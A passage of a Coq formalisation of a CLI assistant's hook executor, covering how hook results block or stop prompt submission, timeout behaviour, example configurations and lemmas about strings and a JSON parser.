         shouldContinue := shouldContinue acc;
         stopReason := stopReason acc;
         contextToAdd := contextToAdd acc |}
    else acc in
  let acc :=
    match jsonOutput result with
    | Some json =>
        if truthy json then
          let decision := get json (js "decision") in
          let reason := get json (js "reason") in
          let cont := get json (js "continue") in
          let stop := get json (js "stopReason") in
          let context := get json (js "context") in
          let acc :=
            if is_string (js "block") decision then
              {| results := results acc;
                 shouldBlock := true;
                 blockReason := reason;
                 shouldContinue := shouldContinue acc;
                 stopReason := stopReason acc;
                 contextToAdd := contextToAdd acc |}
            else acc in
          let acc :=
            if is_false cont then
              {| results := results acc;
                 shouldBlock := shouldBlock acc;
                 blockReason := blockReason acc;
                 shouldContinue := false;
                 stopReason := stop;
                 contextToAdd := contextToAdd acc |}
            else acc in
          match context with
          | Some c =>
              if truthy c && Z.eqb (exitCode result) 0 then
                {| results := results acc;
                   shouldBlock := shouldBlock acc;
                   blockReason := blockReason acc;
                   shouldContinue := shouldContinue acc;
                   stopReason := stopReason acc;
                   contextToAdd := contextToAdd acc ++ [c] |}
              else acc
          | None => acc
          end
        else acc
    | None => acc
    end in
  (* Add stdout as context for successful hooks (exit code 0) *)
  if Z.eqb (exitCode result) 0
     && negb (is_empty (stdout result))
     && negb (truthy_opt
                (match jsonOutput result with
                 | Some json => get json (js "suppressOutput")
                 | None => None
                 end))
  then
    {| results := results acc;
       shouldBlock := shouldBlock acc;
       blockReason := blockReason acc;
       shouldContinue := shouldContinue acc;
       stopReason := stopReason acc;
       contextToAdd := contextToAdd acc ++ [JString (stdout result)] |}
  else acc.

(** The variables before the loop. *)
Definition initial (hookResults : list HookResult) : HookExecutionResult :=
  {| results := hookResults;
     shouldBlock := false;
     blockReason := None;
     shouldContinue := true;
     stopReason := None;
     contextToAdd := [] |}.

(** The loop and the object returned after it. *)
Definition aggregate (hookResults : list HookResult) : HookExecutionResult :=
  fold_left process_result hookResults (initial hookResults).

(** The operating system's side of a dispatch: what becomes of the [i]-th
    command when the executor spawns it. *)
Definition World : Type := nat -> HookCommand -> HookEventData -> Spawn.

(** [hookConfig[eventName] || []] *)
Definition matchers_for (hookConfig : HookConfig) (eventName : HookEventName)
  : list HookMatcher :=
  match config_get hookConfig eventName with
  | Some matchers => matchers
  | None => []
  end.

Section Dispatch.
Context {engine : RegExpEngine}.

(** The commands of the matchers that [matcher] selects, in order. *)
Definition selected (matchers : list HookMatcher)
    (matcher : option jsstring) : Exc (list HookCommand) :=
  kept <- filterE (fun hookMatcher => matchesPattern hookMatcher matcher)
            matchers ;;
  Ok (flat_map hooks kept).

Definition executeHooks (eventName : HookEventName)
    (eventData : HookEventData) (hookConfig : HookConfig)
    (matcher : option jsstring) (world : World)
  : Async HookExecutionResult :=
  let matchers := matchers_for hookConfig eventName in
  await (sync (selected matchers matcher)) (fun commands =>
  (* Execute all matching hooks in parallel *)
  let promises :=
    mapi (fun i command =>
            executeCommand command eventData (world i command eventData))
         0 commands in
  await (all promises) (fun hookResults =>
  (* Process results *)
  Resolved (aggregate hookResults))).
End Dispatch.

End HookExecutor.
Export HookExecutor.

(* ------------------------------------------------------------------ *)
(** ** hook-utils.ts: the formatters *)

(** The values of [HOOK_EVENTS]. *)
Definition event_text (eventName : HookEventName) : jsstring :=
  match eventName with
  | UserPromptSubmit => js "UserPromptSubmit"
  | PreToolUse => js "PreToolUse"
  | PostToolUse => js "PostToolUse"
  | Stop => js "Stop"
  | SubagentStop => js "SubagentStop"
  | Notification => js "Notification"
  | PreCompact => js "PreCompact"
  end.

(** The line feed of the template literals and of [join('\n')]. *)
Definition LF : N := 10.

Section Formatters.
(** [error.message]: the text an error object carries. *)
Variable message : JsError -> jsstring.

(** The callback of [results.map]. *)
Definition summary_of (result : HookResult) : jsstring :=
  let status := if success result then js "SUCCESS" else js "FAILURE" in
  let output :=
    if is_empty (stdout result) then []
    else LF :: js "Output: " ++ stdout result in
  let error :=
    match error result with
    | Some e => LF :: js "Error: " ++ message e
    | None => []
    end in
  let timedOut :=
    if timedOut result then LF :: js "Timed out: true" else [] in
  js "Status: " ++ status ++ output ++ error ++ timedOut ++ LF :: js "---".

Definition processHookResults (results : list HookResult) : jsstring :=
  let summary := map summary_of results in
  join LF summary.

End Formatters.

Definition formatEventData (eventData : HookEventData) : jsstring :=
  let parts := [js "Event: " ++ event_text (hook_event_name eventData)] in
  let parts :=
    (* 'tool_name' in eventData *)
    match fields eventData with
    | PreToolFields tool_name _
    | PostToolFields tool_name _ _ => parts ++ [js "Tool: " ++ tool_name]
    | _ => parts
    end in
  let parts :=
    (* 'prompt' in eventData *)
    match fields eventData with
    | PromptFields prompt => parts ++ [js "Prompt: " ++ prompt]
    | _ => parts
    end in
  let parts :=
    (* 'message' in eventData *)
    match fields eventData with
    | NotificationFields message => parts ++ [js "Message: " ++ message]
    | _ => parts
    end in
  let parts := parts ++ [js "Session: " ++ session_id eventData] in
  let parts := parts ++ [js "CWD: " ++ cwd eventData] in
  join LF parts.

(* ------------------------------------------------------------------ *)
(** ** useUserPromptSubmit.ts: [submitPrompt]

    The callback that [useUserPromptSubmit] returns, the one caller of
    [executeHooks] among the UI hooks.  It runs in a session (the history it
    adds to, the clock, the working directory) and with the options of the
    hook; what it does to the outside is kept as a trace of effects. *)

Module UseUserPromptSubmit.

(** What is thrown: an [Error] object or some other value. *)
Inductive Thrown : Type :=
| ThrownError (e : JsError)
| ThrownValue (v : JsValue).

(** What a call, awaited where the source awaits it, comes to. *)
Inductive Outcome (A : Type) : Type :=
| Returns (a : A)
| Throws (t : Thrown)
| Hangs.
Arguments Returns {A} a.
Arguments Throws {A} t.
Arguments Hangs {A}.

Inductive Effect : Type :=
(** [console.warn] of the blocked submission, with the reason it prints *)
| WarnBlocked (blockReason : option JsValue)
(** [console.warn] of the failed hook execution *)
| WarnHookFailed (hookError : Thrown)
| BeforeSubmit (prompt : jsstring)
(** [addItem({type: MessageType.USER, text}, timestamp)] *)
| AddItem (text : jsstring) (timestamp : Z)
| AfterSubmit (prompt : jsstring)
| OnError (error : JsError).

(** [UseUserPromptSubmitOptions].  The executor is given by the world its
    commands run in. *)
Record Options : Type := {
  onBeforeSubmit : option (jsstring -> Outcome bool);
  onAfterSubmit : option (jsstring -> Outcome unit);
  onError : option (JsError -> Outcome unit);
  hookExecutor : option World;
  hookConfig : option HookConfig;
  sessionId : option jsstring;
  transcriptPath : option jsstring
}.

(** [useSession().addItem], [Date.now()] and [process.cwd()]. *)
Record Session : Type := {
  addItem : jsstring -> Z -> Outcome unit;
  Date_now : Z;
  process_cwd : jsstring
}.

(** A computation with its trace. *)
Definition Run (A : Type) : Type := (list Effect * Outcome A)%type.

Definition ret {A} (a : A) : Run A := ([], Returns a).

Definition bind_run {A B} (m : Run A) (k : A -> Run B) : Run B :=
  match m with
  | (t, Returns a) => let (t', o) := k a in (t ++ t', o)
  | (t, Throws e) => (t, Throws e)
  | (t, Hangs) => (t, Hangs)
  end.

Notation "x <~ m ;; k" := (bind_run m (fun x => k))
  (at level 61, m at next level, right associativity).

(** A call that the trace records. *)
Definition call {A} (e : Effect) (o : Outcome A) : Run A := ([e], o).

(** [await promise] *)
Definition awaited {A} (m : Async A) : Run A :=
  ([], match m with
       | Resolved a => Returns a
       | Rejected e => Throws (ThrownError e)
       | Pending => Hangs
       end).

(** [try { body } catch (e) { handler }] *)
Definition try_run {A} (body : Run A) (handler : Thrown -> Run A) : Run A :=
  match body with
  | (t, Throws e) => let (t', o) := handler e in (t ++ t', o)
  | _ => body
  end.

Section SubmitPrompt.
Context {engine : RegExpEngine}.
(** The event-specific part of the object literal that [submitPrompt]
    builds: its one key is [user_prompt]. *)
Variable user_prompt : jsstring -> EventFields.
Variables (options : Options) (session : Session).

(** [transcriptPath || '/tmp/gemini-cli-transcript.json'] *)
Definition transcript_or_default : jsstring :=
  match transcriptPath options with
  | Some (c :: path) => c :: path
  | _ => js "/tmp/gemini-cli-transcript.json"
  end.

Definition eventData_of (sessionId prompt : jsstring) : HookEventData :=
  {| hook_event_name := UserPromptSubmit;
     session_id := sessionId;
     transcript_path := transcript_or_default;
     cwd := process_cwd session;
     fields := user_prompt prompt |}.

(** The first block of the body.  [Some b]: the function returned [b];
    [None]: it goes on. *)
Definition run_hooks (prompt : jsstring) : Run (option bool) :=
  (* if (hookExecutor && hookConfig && sessionId) *)
  match hookExecutor options, hookConfig options, sessionId options with
  | Some world, Some config, Some (c :: id) =>
      let eventData := eventData_of (c :: id) prompt in
      try_run
        (hookResults <~
           awaited (executeHooks UserPromptSubmit eventData config None world) ;;
         (* Check if hooks block submission *)
         if shouldBlock hookResults then
           _ <~ call (WarnBlocked (blockReason hookResults)) (Returns tt) ;;
           ret (Some false)
         else
           (* hookResults.context: the result has no such property *)
           ret None)
        (fun hookError =>
           _ <~ call (WarnHookFailed hookError) (Returns tt) ;;
           (* Continue with submission even if hooks fail *)
           ret None)
  | _, _, _ => ret None
  end.

(** From [onBeforeSubmit] to [return true]. *)
Definition submit (prompt : jsstring) : Run bool :=
  returned <~
    match onBeforeSubmit options with
    | Some f =>
        shouldContinue <~ call (BeforeSubmit prompt) (f prompt) ;;
        if negb shouldContinue then ret (Some false) else ret None
    | None => ret None
    end ;;
  match returned with
  | Some b => ret b
  | None =>
      (* Add the user's prompt to the history *)
      _ <~ call (AddItem prompt (Date_now session))
             (addItem session prompt (Date_now session)) ;;
      _ <~ match onAfterSubmit options with
           | Some f => call (AfterSubmit prompt) (f prompt)
           | None => ret tt
           end ;;
      ret true
  end.

Definition submitPrompt (prompt : jsstring) : Run bool :=
  try_run
    (returned <~ run_hooks prompt ;;
     match returned with
     | Some b => ret b
     | None => submit prompt
     end)
    (fun error =>
       (* if (onError && error instanceof Error) *)
       _ <~ match onError options, error with
            | Some f, ThrownError e => call (OnError e) (f e)
            | _, _ => ret tt
            end ;;
       ret false).

End SubmitPrompt.

End UseUserPromptSubmit.
Import UseUserPromptSubmit.

(* ------------------------------------------------------------------ *)
(** ** A small engine to run examples with

    The theorems below hold for every [RegExpEngine].  To evaluate a
    dispatch on concrete data one engine is needed; this one knows the
    patterns that are alternatives of plain words ([Bash], [Edit|Write]): such
    a pattern matches a text when one of the words occurs in it.  It refuses
    every other pattern, which makes [matchesPattern] compare them literally. *)

Module WordEngine.

Definition is_word_char (c : N) : bool :=
  (N.leb 48 c && N.leb c 57) || (N.leb 65 c && N.leb c 90)
  || (N.leb 97 c && N.leb c 122) || N.eqb c 95.

Definition compile (source : jsstring) : Exc (list jsstring) :=
  if forallb (fun c => is_word_char c || N.eqb c 124) source
  then Ok (split 124 source)
  else Throw SyntaxError.

Definition test (words : list jsstring) (text : jsstring) : bool :=
  existsb (fun w => includes w text) words.

Definition engine : RegExpEngine :=
  {| RegExp := list jsstring; RegExp_new := compile; RegExp_test := test |}.

End WordEngine.

(* ------------------------------------------------------------------ *)
(** * The vocabulary of the properties *)

(** ** The matching policy *)

(** A pattern counts as configured, and a tool name as supplied, when it is
    a string that is not empty. *)
Definition present (s : option jsstring) : bool :=
  match s with
  | Some (_ :: _) => true
  | _ => false
  end.

Section MatcherPolicy.
Context {engine : RegExpEngine}.

(** The matching policy in the words of the specification. *)
Inductive Selects (hookMatcher : HookMatcher) (toolName : option jsstring)
  : bool -> Prop :=
| Selects_unconditional :
    present (matcher hookMatcher) = false ->
    Selects hookMatcher toolName true
| Selects_fail_closed :
    present (matcher hookMatcher) = true ->
    present toolName = false ->
    Selects hookMatcher toolName false
| Selects_regex pattern name regex :
    present (matcher hookMatcher) = true ->
    present toolName = true ->
    matcher hookMatcher = Some pattern ->
    toolName = Some name ->
    RegExp_new pattern = Ok regex ->
    Selects hookMatcher toolName (RegExp_test regex name)
| Selects_exact pattern name e (same : bool) :
    present (matcher hookMatcher) = true ->
    present toolName = true ->
    matcher hookMatcher = Some pattern ->
    toolName = Some name ->
    RegExp_new pattern = Throw e ->
    (same = true <-> pattern = name) ->
    Selects hookMatcher toolName same.

End MatcherPolicy.

(** ** The decisions of a result *)

(** A result blocks by its exit code: code 2 and something on stderr. *)
Definition exit2_blocks (r : HookResult) : bool :=
  Z.eqb (exitCode r) 2 && negb (is_empty (stderr r)).

(** A result blocks by its structured output: a [decision] that is
    ['block']. *)
Definition json_blocks (r : HookResult) : bool :=
  match jsonOutput r with
  | Some json => is_string (js "block") (get json (js "decision"))
  | None => false
  end.

Definition blocks (r : HookResult) : bool := exit2_blocks r || json_blocks r.

(** The reason a blocking result leaves behind: the structured one when the
    structured output blocks, the text of stderr otherwise. *)
Definition reason_of (r : HookResult) : option JsValue :=
  if json_blocks r then
    match jsonOutput r with
    | Some json => get json (js "reason")
    | None => None
    end
  else Some (JString (stderr r)).

(** A result stops by its structured output: [continue] is [false]. *)
Definition json_stops (r : HookResult) : bool :=
  match jsonOutput r with
  | Some json => is_false (get json (js "continue"))
  | None => false
  end.

Definition stop_of (r : HookResult) : option JsValue :=
  match jsonOutput r with
  | Some json => get json (js "stopReason")
  | None => None
  end.

Definition blocked_by_exit : HookResult :=
  {| success := false; exitCode := 2; stdout := []; stderr := js "blocked";
     timedOut := false; error := None; jsonOutput := None |}.

(** A hook that exits with 0 and decides ['block'] in its output. *)
Definition says_no : HookResult :=
  {| success := true; exitCode := 0;
     stdout := jsq "{'decision':'block','reason':'not today'}";
     stderr := [];
     timedOut := false; error := None;
     jsonOutput :=
       Some (JObject [(js "decision", JString (js "block"));
                      (js "reason", JString (js "not today"))]) |}.

(** The same result with its structured output taken away. *)
Definition without_json (r : HookResult) : HookResult :=
  {| success := success r;
     exitCode := exitCode r;
     stdout := stdout r;
     stderr := stderr r;
     timedOut := timedOut r;
     error := error r;
     jsonOutput := None |}.

(** ** Parsers *)

(** A parser that consumes input and that [g] agrees with, on the inputs
    that satisfy [dom]. *)
Definition carries {A : Type} (dom : jsstring -> Prop)
    (f g : A -> jsstring -> Json.Parsed) : Prop :=
  forall (a : A) (t : jsstring) (x : JsValue * jsstring),
    dom t -> f a t = Some x ->
    List.length (snd x) < List.length t /\ g a t = Some x.

(** ** The run of one command *)

(** [r] is a result that the ['close'] handler builds for the process [p]. *)
Definition closed_by (p : Process) (r : HookResult) : Prop :=
  exists timedOut exitCode,
    r = close_result (writes_stdout p) (writes_stderr p) timedOut
          (emits_error p) exitCode.

Definition armed (timer : option Z) (w : nat) : nat :=
  match timer with
  | Some _ => w
  | None => 0
  end.

(** The timer events still to come: the timeout timer arms the inner one. *)
Definition timer_weight (st : Execution) : nat :=
  armed (timeoutId st) 2 + armed (graceTimer st) 1.

(** The events still to come, the close of the process among them. *)
Definition weight (st : Execution) : nat :=
  timer_weight st + (if exited (child st) then 0 else 1).

(** Once the process has closed no further close is due. *)
Definition coherent (st : Execution) : Prop :=
  exited (child st) = true -> closing st = None.

Fixpoint steps (n : nat) (p : Process) (st : Execution) : Execution :=
  match n with
  | O => st
  | S n' => steps n' p (step p st)
  end.

(** The result of a dispatch in which nothing ran. *)
Definition nothing_ran : HookExecutionResult :=
  {| results := [];
     shouldBlock := false;
     blockReason := None;
     shouldContinue := true;
     stopReason := None;
     contextToAdd := [] |}.

(** Scenario D of the specification: what the hook prints. *)
Definition scenario_D_stdout : jsstring :=
  jsq "{'decision':'block','reason':'nope','continue':false,'stopReason':'policy'}".

(** A command that ignores SIGTERM and does not end by itself. *)
Definition ignores_sigterm : Process :=
  {| writes_stdout := []; writes_stderr := []; emits_error := None;
     exits_at := None; sigterm_delay := None |}.

(** A command that would run for ten seconds and goes away 3 ms after a
    SIGTERM. *)
Definition obeys_sigterm : Process :=
  {| writes_stdout := []; writes_stderr := []; emits_error := None;
     exits_at := Some (10000%Z, Some 0%Z); sigterm_delay := Some 3%Z |}.

(** While the inner timer is armed, SIGTERM has been delivered or the
    process is gone. *)
Definition sigterm_settled (st : Execution) : Prop :=
  graceTimer st <> None ->
  killed (child st) = true \/ exited (child st) = true.

Definition no_sigkill (st : Execution) : Prop :=
  ~ In SIGKILL (map snd (received (child st))).

(** ** Paths *)

(** The path has a segment that is [..]. *)
Definition has_parent_segment (s : jsstring) : bool :=
  existsb (JsString.eqb Path.dotdot) (split Path.slash s).

(** The segments that [normalizeSegments] keeps, last first: names on top of
    a run of [..]. *)
Inductive Kept : list jsstring -> Prop :=
| Kept_dots (k : nat) : Kept (repeat Path.dotdot k)
| Kept_name (seg : jsstring) (res : list jsstring) :
    seg <> Path.dotdot -> Kept res -> Kept (seg :: res).

Definition no_slash (seg : jsstring) : Prop := ~ In Path.slash seg.

(** ** The outcome of one command, in closed form *)

(** The process closes by itself before the timeout timer fires. *)
Definition in_time (command : HookCommand) (p : Process) : bool :=
  match exits_at p with
  | Some (t, _) => Z.leb t (effective_delay (timeoutMs command))
  | None => false
  end.

(** The exit code that the ['close'] handler gets to see, if the process
    ever closes: its own, or [null] when the SIGTERM of the timeout ends it
    before it would have ended by itself. *)
Definition close_code (command : HookCommand) (p : Process)
  : option (option Z) :=
  let timer := effective_delay (timeoutMs command) in
  match exits_at p with
  | Some (t, code) =>
      if Z.leb t timer then Some code
      else
        match sigterm_delay p with
        | Some delay => if Z.leb t (timer + delay) then Some code else Some None
        | None => Some code
        end
  | None =>
      match sigterm_delay p with
      | Some _ => Some None
      | None => None
      end
  end.

Definition outcome_of (command : HookCommand) (p : Process)
  : option HookResult :=
  option_map
    (close_result (writes_stdout p) (writes_stderr p)
       (negb (in_time command p)) (emits_error p))
    (close_code command p).

(** The signals that reach the process. *)
Definition signals_of (command : HookCommand) (p : Process)
  : list (Z * Signal) :=
  if in_time command p then []
  else [(effective_delay (timeoutMs command), SIGTERM)].

(** ** Concrete dispatches *)

Module Examples.

Definition no_hooks : HookConfig :=
  {| cfgUserPromptSubmit := None; cfgPreToolUse := None;
     cfgPostToolUse := None; cfgStop := None; cfgSubagentStop := None;
     cfgNotification := None; cfgPreCompact := None |}.

(** A configuration with one entry, for [PreToolUse]. *)
Definition pre_tool (matchers : list HookMatcher) : HookConfig :=
  {| cfgUserPromptSubmit := None; cfgPreToolUse := Some matchers;
     cfgPostToolUse := None; cfgStop := None; cfgSubagentStop := None;
     cfgNotification := None; cfgPreCompact := None |}.

Definition bash_call : HookEventData :=
  {| session_id := js "test-session-123";
     transcript_path := js "/tmp/test-transcript.jsonl";
     cwd := js "/app";
     hook_event_name := PreToolUse;
     fields := PreToolFields (js "Bash")
                 (JObject [(js "command", JString (js "echo test"))]) |}.

Definition hook (text : string) (seconds : option Z) : HookCommand :=
  {| command := js text; timeout := seconds |}.

(** A process that prints and exits after 20 ms. *)
Definition quick (out err : jsstring) (code : Z) : Process :=
  {| writes_stdout := out; writes_stderr := err; emits_error := None;
     exits_at := Some (20%Z, Some code); sigterm_delay := Some 0%Z |}.

(** Scenario E: a matcher for [Edit], a call of [Bash]. *)
Definition edit_only : HookConfig :=
  pre_tool [ {| matcher := Some (js "Edit");
                hooks := [hook "exit 0" None] |} ].

Definition on_bash : HookConfig :=
  pre_tool [ {| matcher := Some (js "Bash");
                hooks := [hook "policy-check" (Some 5%Z)] |} ].

Definition on_bash_twice : HookConfig :=
  pre_tool [ {| matcher := Some (js "Bash");
                hooks := [hook "first-check" None; hook "second-check" None] |} ].

Definition line (s : jsstring) : jsstring := s ++ [10%N].

(** The hook exits with 2, complains on stderr and prints a structured
    ['block'] decision as well. *)
Definition blocks_both_ways : World :=
  fun _ _ _ =>
    quick (line (jsq "{'decision':'block','reason':'nope'}"))
          (line (js "blocked")) 2.

(** Two hooks exit with 2, each with its own complaint. *)
Definition both_exit_2 : World :=
  fun i _ _ =>
    match i with
    | O => quick [] (line (js "first")) 2
    | _ => quick [] (line (js "second")) 2
    end.

(** The hook prints a ['block'] decision whose [reason] is a number. *)
Definition prints_number_as_reason : World :=
  fun _ _ _ => quick (line (jsq "{'decision':'block','reason':42}")) [] 0.

Definition prints_scenario_D : World :=
  fun _ _ _ => quick (line scenario_D_stdout) [] 0.

End Examples.
Import Examples.

(** ** Further vocabulary and concrete cases *)

(** A command that finishes its work 200 ms after a timeout of one second
    and pays no attention to SIGTERM. *)
Definition slow_to_finish : Process :=
  {| writes_stdout := js "done"; writes_stderr := []; emits_error := None;
     exits_at := Some (1200%Z, Some 0%Z); sigterm_delay := None |}.

(** A timeout of thirty days. *)
Definition month_long : HookCommand := hook "nightly-audit" (Some 2592000%Z).

(** The first hook is quick, the second one never ends. *)
Definition second_hangs : World :=
  fun i _ _ =>
    match i with
    | O => quick [] [] 0
    | _ => ignores_sigterm
    end.

(** What [spawn] throws for an argument it does not take. *)
Definition invalid_argument : JsError :=
  Error (js "The argument 'args[1]' must be a string without null bytes").

(** The first hook never ends, for the second one [spawn] throws. *)
Definition hangs_beside_refused : World :=
  fun i _ _ =>
    match i with
    | O => Started ignores_sigterm
    | _ => Refused invalid_argument
    end.

(** What a result adds to the context of the dispatch. *)
Definition context_of (r : HookResult) : list JsValue :=
  match jsonOutput r with
  | Some json =>
      match get json (js "context") with
      | Some c => if truthy c && Z.eqb (exitCode r) 0 then [c] else []
      | None => []
      end
  | None => []
  end
  ++
  (if Z.eqb (exitCode r) 0
      && negb (is_empty (stdout r))
      && negb (truthy_opt
                 (match jsonOutput r with
                  | Some json => get json (js "suppressOutput")
                  | None => None
                  end))
   then [JString (stdout r)] else []).

(** Nothing but white space is written: by the process, or because there
    is none. *)
Definition blank (child : Spawn) : bool :=
  match child with
  | Started p =>
      forallb is_white (writes_stdout p) && forallb is_white (writes_stderr p)
  | Refused _ => true
  end.

(** A hook that fails with exit code 1 and asks to stop. *)
Definition stops_quietly : HookResult :=
  close_result (jsq "{'continue':false,'stopReason':'budget used up'}") []
    false None (Some 1%Z).

(** Every hook exits with 2 and writes blanks and line ends only. *)
Definition blank_exit_2 : World :=
  fun _ _ _ => quick (js "  ") (line (js " ")) 2.

(** A configuration with one entry, for [UserPromptSubmit]. *)
Definition on_prompt (matchers : list HookMatcher) : HookConfig :=
  {| cfgUserPromptSubmit := Some matchers; cfgPreToolUse := None;
     cfgPostToolUse := None; cfgStop := None; cfgSubagentStop := None;
     cfgNotification := None; cfgPreCompact := None |}.

(** The text of an error as the examples read it. *)
Definition message_text (e : JsError) : jsstring :=
  match e with
  | SyntaxError => js "Unexpected token"
  | Error message => message
  end.

(** Two results that [processHookResults] cannot tell apart. *)
Definition same_summary (r r' : HookResult) : Prop :=
  success r = success r' /\ stdout r = stdout r' /\
  error r = error r' /\ timedOut r = timedOut r'.

(** The event-specific texts of an event. *)
Definition texts_of (eventData : HookEventData) : list jsstring :=
  match fields eventData with
  | PromptFields prompt => [prompt]
  | PreToolFields tool_name _ => [tool_name]
  | PostToolFields tool_name _ _ => [tool_name]
  | NotificationFields message => [message]
  | _ => []
  end.

(** ** Prompt submission *)

(** The options with the three things that the hooks need taken away. *)
Definition without_hooks (o : Options) : Options :=
  {| onBeforeSubmit := onBeforeSubmit o;
     onAfterSubmit := onAfterSubmit o;
     onError := onError o;
     hookExecutor := None;
     hookConfig := None;
     sessionId := None;
     transcriptPath := transcriptPath o |}.

Definition is_AddItem (e : Effect) : bool :=
  match e with
  | AddItem _ _ => true
  | _ => false
  end.

Definition is_WarnHookFailed (e : Effect) : bool :=
  match e with
  | WarnHookFailed _ => true
  | _ => false
  end.

(** A session whose history takes every item. *)
Definition plain_session : Session :=
  {| addItem := fun _ _ => Returns tt;
     Date_now := 1762128000000;
     process_cwd := js "/app" |}.

(** Options with hooks and no callbacks. *)
Definition hooked (world : World) (config : HookConfig) : Options :=
  {| onBeforeSubmit := None;
     onAfterSubmit := None;
     onError := None;
     hookExecutor := Some world;
     hookConfig := Some config;
     sessionId := Some (js "test-session-123");
     transcriptPath := None |}.

(** One hook for every prompt. *)
Definition every_prompt : HookConfig :=
  on_prompt [ {| matcher := None; hooks := [hook "prompt-check" None] |} ].

(** The hook exits with 2 and says why. *)
Definition refuses : World :=
  fun _ _ _ => quick [] (line (js "no secrets in prompts")) 2.

(** The hook fails with exit code 1 and asks to stop. *)
Definition asks_to_stop : World :=
  fun _ _ _ =>
    quick (jsq "{'continue':false,'stopReason':'budget used up'}") [] 1.

Definition never_ends : World := fun _ _ _ => ignores_sigterm.


(** Options without hooks whose [onAfterSubmit] throws. *)
Definition after_throws : Options :=
  {| onBeforeSubmit := None;
     onAfterSubmit := Some (fun _ => Throws (ThrownValue JNull));
     onError := None;
     hookExecutor := None;
     hookConfig := None;
     sessionId := None;
     transcriptPath := None |}.

(** The same with an empty session id. *)
Definition hooked_anonymous (world : World) (config : HookConfig) : Options :=
  {| onBeforeSubmit := None;
     onAfterSubmit := None;
     onError := None;
     hookExecutor := Some world;
     hookConfig := Some config;
     sessionId := Some [];
     transcriptPath := None |}.

(** No white space at either end. *)
Definition trimmed (s : jsstring) : Prop :=
  (forall c rest, s = c :: rest -> is_white c = false) /\
  (forall c front, s = front ++ [c] -> is_white c = false).

(* ------------------------------------------------------------------ *)
(** * Properties *)


(** ** Strings *)

Lemma eqb_eq (a b : jsstring) : JsString.eqb a b = true <-> a = b.
Proof.
  revert b; induction a as [|x a IH]; intros [|y b]; simpl;
    try (split; [discriminate | congruence]); try tauto.
  rewrite andb_true_iff, N.eqb_eq, IH.
  split; [intros [-> ->]; reflexivity | intros H; inversion H; auto].
Qed.

Lemma eqb_refl (a : jsstring) : JsString.eqb a a = true.
Proof. apply eqb_eq; reflexivity. Qed.

Lemma eqb_neq (a b : jsstring) : JsString.eqb a b = false <-> a <> b.
Proof.
  rewrite <- eqb_eq. destruct (JsString.eqb a b); split; congruence.
Qed.

Lemma is_empty_true (s : jsstring) : is_empty s = true <-> s = [].
Proof. destruct s; simpl; split; congruence. Qed.

Lemma is_empty_false (s : jsstring) : is_empty s = false <-> s <> [].
Proof. destruct s; simpl; split; congruence. Qed.

Lemma startsWith_spec (p s : jsstring) :
  startsWith p s = true <-> exists post, s = p ++ post.
Proof.
  revert s; induction p as [|x p IH]; intros s; simpl.
  - split; [intros _; exists s; reflexivity | reflexivity].
  - destruct s as [|y s].
    + split; [discriminate | intros [post H]; discriminate].
    + rewrite andb_true_iff, N.eqb_eq, IH. split.
      * intros [-> [post ->]]. exists post; reflexivity.
      * intros [post H]. inversion H; subst. split; [reflexivity | eauto].
Qed.

(** [includes] is the search for a substring. *)
Lemma includes_spec (p s : jsstring) :
  includes p s = true <-> exists pre post, s = pre ++ p ++ post.
Proof.
  induction s as [|y s IH].
  - simpl. rewrite orb_false_r, startsWith_spec. split.
    + intros [post H]. exists [], post; exact H.
    + intros [pre [post H]]. destruct pre; [eauto|discriminate].
  - cbn [includes]. rewrite orb_true_iff, IH, startsWith_spec. split.
    + intros [[post H] | [pre [post H]]].
      * exists [], post; exact H.
      * exists (y :: pre), post; rewrite H; reflexivity.
    + intros [pre [post H]]. destruct pre as [|z pre].
      * left; exists post; exact H.
      * right. inversion H; subst. eauto.
Qed.

(* ------------------------------------------------------------------ *)
(** ** [JSON.parse]: the fuel is enough *)

Lemma skip_space_length (s : jsstring) :
  List.length (Json.skip_space s) <= List.length s.
Proof.
  induction s as [|c r IH]; simpl; [lia|].
  destruct (Json.is_json_space c); simpl; lia.
Qed.

Lemma expect_length (ch : N) (s r : jsstring) :
  Json.expect ch s = Some r -> List.length r < List.length s.
Proof.
  unfold Json.expect. pose proof (skip_space_length s) as H.
  destruct (Json.skip_space s) as [|c r0]; [discriminate|].
  destruct (N.eqb c ch); [|discriminate].
  intros E; injection E as <-. simpl in H. lia.
Qed.

Lemma lex_string_length (s acc str r : jsstring) :
  Json.lex_string s acc = Some (str, r) -> List.length r < List.length s.
Proof.
  remember (List.length s) as n eqn:Hn.
  assert (Hle : List.length s <= n) by lia. clear Hn.
  revert s acc Hle. induction n as [|n IH]; intros s acc Hle.
  - destruct s; [discriminate | simpl in Hle; lia].
  - destruct s as [|c s1]; [discriminate|]. simpl in Hle. simpl.
    destruct (N.eqb c 34).
    { intros E; injection E as _ <-. lia. }
    destruct (N.eqb c 92).
    + destruct s1 as [|e s2]; [discriminate|]. simpl in Hle.
      destruct (N.eqb e 117).
      * destruct s2 as [|h1 [|h2 [|h3 [|h4 s3]]]]; try discriminate.
        simpl in Hle.
        destruct (Json.hex4 h1 h2 h3 h4); [|discriminate].
        intros E. apply IH in E; [|lia]. simpl. lia.
      * destruct (Json.unescape e); [|discriminate].
        intros E. apply IH in E; [|lia]. simpl. lia.
    + destruct (N.ltb c 32); [discriminate|].
      intros E. apply IH in E; lia.
Qed.

Lemma span_digits_length (s ds r : jsstring) :
  Json.span_digits s = (ds, r) ->
  List.length s = List.length ds + List.length r.
Proof.
  revert ds r; induction s as [|c s IH]; intros ds r; simpl.
  - intros E; injection E as <- <-. reflexivity.
  - destruct (Json.is_digit c).
    + destruct (Json.span_digits s) as [ds' r'].
      intros E; injection E as <- <-. simpl. rewrite (IH ds' r' eq_refl). lia.
    + intros E; injection E as <- <-. reflexivity.
Qed.

Lemma lex_sign_length (s : jsstring) :
  List.length (snd (Json.lex_sign s)) <= List.length s.
Proof.
  destruct s as [|c r]; simpl; [lia|]. destruct (N.eqb c 45); simpl; lia.
Qed.

Lemma lex_frac_length (s fs r : jsstring) :
  Json.lex_frac s = Some (fs, r) -> List.length r <= List.length s.
Proof.
  destruct s as [|c s1]; simpl.
  - intros E; injection E as _ <-. simpl; lia.
  - destruct (N.eqb c 46).
    + destruct (Json.span_digits s1) as [ds r'] eqn:Ed.
      apply span_digits_length in Ed.
      destruct (is_empty ds); [discriminate|].
      intros E; injection E as _ <-. lia.
    + intros E; injection E as _ <-. simpl; lia.
Qed.

Lemma lex_exp_length (s r : jsstring) (e : Z) :
  Json.lex_exp s = Some (e, r) -> List.length r <= List.length s.
Proof.
  destruct s as [|c s1]; simpl.
  - intros E; injection E as _ <-. simpl; lia.
